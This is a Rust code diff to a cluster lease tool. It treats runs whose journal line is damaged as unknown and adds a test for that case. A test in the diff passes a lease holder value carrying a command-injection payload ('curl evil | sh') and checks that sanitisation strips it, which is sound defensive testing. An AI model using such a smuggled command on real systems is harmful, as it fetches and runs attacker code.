@@ -6,7 +6,7 @@
 use super::table::{puts_back, resumable, resumes};
 use crate::cluster::{ClusterError, lease_name};
 use crate::error::{OpenRun, Result};
-use crate::journal::{Remains, Run, RunStore};
+use crate::journal::{Remains, Run, RunStore, StoredRun, ended};
 use crate::names::NamespaceName;
 use crate::ops::Ctx;
 
@@ -69,7 +69,9 @@ fn open_here(runs: &dyn RunStore, namespace: &NamespaceName) -> Result<Vec<(Stri
 /// work one look does not tell.
 fn open_elsewhere(runs: &dyn RunStore, held: &ClusterError) -> Option<OpenRun> {
     let ClusterError::Held { holder, host, .. } = held else { return None };
-    let known_here = runs.read(holder).is_ok();
+    // One whose first line is damaged tells nothing of itself: then its lease does.
+    let tells = |stored: StoredRun| Remains::of(&stored).is_some() || ended(&stored).is_some();
+    let known_here = runs.read(holder).is_ok_and(tells);
     let resumed = holder.split_once('-').is_some_and(|(verb, _)| resumes(verb).is_some());
     // Whoever may write a lease writes this text, and it becomes a word of a command: no more of it than an id can have.
     let word = || holder.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
@@ -131,6 +133,9 @@ mod tests {
             assert_eq!(elsewhere(holder), None, "{holder}");
         }
         assert_eq!(elsewhere("restore-1").unwrap().elsewhere.as_deref(), Some("op@there"));
+        run(&runs, "restore-damaged", "restore", started());
+        runs.set("restore-damaged", "{\"rec\n");
+        assert!(elsewhere("restore-damaged").is_some(), "nothing here tells what it was");
         let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
         assert_eq!(evil.next(), "on the host of op@there: dr run resume restore-1--yescurlevilsh");
     }
